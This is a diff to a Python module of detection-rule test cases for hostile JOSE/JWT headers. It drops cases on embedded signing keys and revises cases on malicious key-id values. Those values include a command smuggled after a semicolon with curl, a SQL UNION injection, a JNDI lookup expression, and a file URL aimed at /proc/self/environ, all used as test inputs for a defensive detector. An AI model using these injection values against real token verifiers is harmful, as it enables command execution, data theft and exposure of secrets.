@@ -1,9 +1,7 @@
 """cases of the A rules: the JOSE header asks for trouble."""
 import base64
-import hashlib
-import json
 
-from minting import EcKey, b64u, compact, jws, v2_claims
+from minting import b64u, compact, jws, v2_claims
 from rulecases.common import (ADA, EC, GOOGLE_KID, NOW, OTHER, alb, background, cognito, google, hit, minor, miss,
                               noise, oidc, s2s, uti, v2)
 
@@ -62,38 +60,6 @@ def a05(m):
     ] + background(m)
 
 
-def a06(m):
-    own = EcKey("rule cases|client")
-
-    def bound(now):
-        thumb = b64u(hashlib.sha256(json.dumps(own.public_jwk(), sort_keys=True, separators=(",",
-            ":")).encode()).digest())
-        return v2(m.organisations, header={"typ": "at+jwt"}, cnf={"jkt": thumb})(now)
-
-    def proof(now):
-        return jws(own, {"typ": "dpop+jwt", "alg": "ES256", "jwk": own.public_jwk()},
-                   {"htm": "GET", "htu": "https://miss.example/api/v2.0/me/messages", "iat": now,
-                       "jti": uti(f"proof{now}")})
-    acme = compact({"protected": b64u(compact({"alg": "ES256", "jwk": own.public_jwk(), "nonce": "n",
-        "url": "https://acme.example/new"})),
-                    "payload": b64u(b"{}"), "signature": b64u(noise("ec", 64))})
-    siop = jws(own, {"typ": "JWT", "alg": "ES256", "jwk": own.public_jwk()}, {"iss": "https://self-issued.me",
-        "sub": "x", "aud": "a"})
-    return [
-        hit("RSA key embedded, and it is the one that signs", v2(OTHER, header={"jwk": OTHER.public_jwk()})),
-        hit("EC key embedded", oidc("https://idp.contoso.example", EC, header={"jwk": EC.public_jwk()})),
-        hit("key embedded beside a real key id", v2(OTHER, header={"kid": m.organisations.kid,
-            "jwk": OTHER.public_jwk()}), status=401),
-        miss("DPoP: the proof carries jwk, the token does not", bound, scheme="DPoP", headers=[("DPoP", proof(NOW))]),
-        miss("ACME: jwk in a body", method="POST", path="/acme/new-acct", body=acme, status=201,
-             headers=[("Content-Type", "application/jose+json")]),
-        miss("self-issued id_token posted as a form", method="POST", path="/callback",
-            body=b"id_token=" + siop.encode(), status=302,
-             headers=[("Content-Type", "application/x-www-form-urlencoded")]),
-        miss("jwk within the claims (cnf)", v2(m.organisations, cnf={"jwk": own.public_jwk()})),
-    ] + background(m)
-
-
 def a08(m):
     def kid(text, **kw):
         return v2(OTHER, header={"kid": text}, **kw)
@@ -104,7 +70,9 @@ def a08(m):
         hit("a command after a semicolon", kid("key; curl keys.invalid")),
         hit("SQL", kid("x' UNION SELECT '1';--")),
         hit("an expression", kid("${jndi:ldap://keys.invalid/a}")),
-        miss("a URL, as HTTP signatures have", kid("https://keys.invalid/key.pem")),
+        hit("a web address, which this issuer never takes for a key id", kid("https://keys.invalid/key.pem")),
+        hit("a file's URL, whoever the issuer", oidc("https://idp.contoso.example",
+            header={"kid": "file:///proc/self/environ"})),
         hit("a control character", kid("key\n1")),
         hit("empty", kid("")),
         hit("257 bytes", kid("k" * 257)),
@@ -116,6 +84,9 @@ def a08(m):
             header={"kid": b64u(GOOGLE_KID.upper().encode())})),
         miss("dots, colons, dashes", kid("prod:2026-01.key..2")),
         miss("a mail address", kid("svc@contoso.example")),
+        miss("a key vault's key: its web address is its id, and nobody described the issuer", oidc(
+            "https://idp.contoso.example",
+            header={"kid": "https://contoso.vault.azure.net/keys/token-signing/0a1b2c3d11114222833344445555aaaa"})),
         miss("no kid at all", v2(OTHER, header={"kid": None})),
         miss("an HTTP signature: its keyId is a URL",
             'keyId="https://social.example/users/a#main-key",algorithm="rsa-sha256",'
